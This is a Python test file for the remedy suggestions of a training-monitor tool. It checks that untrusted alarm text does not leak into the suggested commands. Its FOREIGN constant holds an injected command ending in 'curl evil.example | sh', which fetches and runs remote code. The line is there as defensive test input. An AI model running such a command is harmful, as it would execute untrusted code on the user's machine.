"""Which remedy the report suggests, and the evidence it gives for it."""

import pytest

from scaledot.watch.alarms import Alarm
from scaledot.watch.report import evidence
from scaledot.watch.report.remedy import remedies_for

FOREIGN = "scaledot run --remedy softcap:50 evil.py; curl evil.example | sh"


def _alarm(kind: str, grade: str = "warn", advice: str = FOREIGN, step: int = 50) -> Alarm:
    return Alarm(step, grade, kind, "blocks.0", 1, 300.0, 100.0, 40, 0.1, "words", advice, (1,))


@pytest.fixture
def measured(tmp_path, monkeypatch):
    """Writes what the benchmark would."""

    def write(*rows: str) -> None:
        path = tmp_path / "remedies.csv"
        path.write_text("\n".join(["remedy,seed,final_loss", *rows]))
        monkeypatch.setattr(evidence, "FILES", (tmp_path / "absent.csv", path))
        evidence._rows.cache_clear()

    yield write
    evidence._rows.cache_clear()


def test_a_grave_alarm_brings_the_remedy_of_its_kind(measured):
    measured()
    found = remedies_for([_alarm("collapse")])
    assert [one.name for one in found] == ["qk-clip:100"]
    assert found[0].command == "scaledot run --remedy qk-clip:100 SCRIPT"
    assert "qk-clip:100" in found[0].code
    assert found[0].promise
    assert found[0].evidence == "No measurement of qk-clip:100 comes with this installation."


def test_the_gravest_alarm_is_served_first(measured):
    measured()
    found = remedies_for([_alarm("collapse"), _alarm("saturation", "act", step=70)])
    assert [one.name for one in found] == ["qk-norm", "qk-clip:100"]


@pytest.mark.parametrize(
    ("kind", "grade"), [("growth", "note"), ("sink", "note"), ("broken", "act")]
)
def test_notes_sinks_and_broken_rows_bring_none(kind, grade):
    assert remedies_for([_alarm(kind, grade)]) == []


def test_no_word_of_a_store_is_in_a_command_or_in_code(measured):
    measured()
    for one in remedies_for([_alarm("collapse"), _alarm("fading")]):
        for text in (one.command, one.code):
            assert "evil" not in text
            assert "blocks.0" not in text


def test_evidence_compares_the_same_seeds(measured):
    measured("none,0,2.5", "none,1,2.7", "none,2,9", "qk-clip:100,0,2.0", "qk-clip:100,1,1.9")
    said = evidence.evidence_for("qk-clip:100")
    assert "2 seeds: final loss 1.95 instead of 2.60" in said
    assert "gained 0.65 on average and 0.50 at least" in said
    assert "No measurement of softcap:50" in evidence.evidence_for("softcap:50")
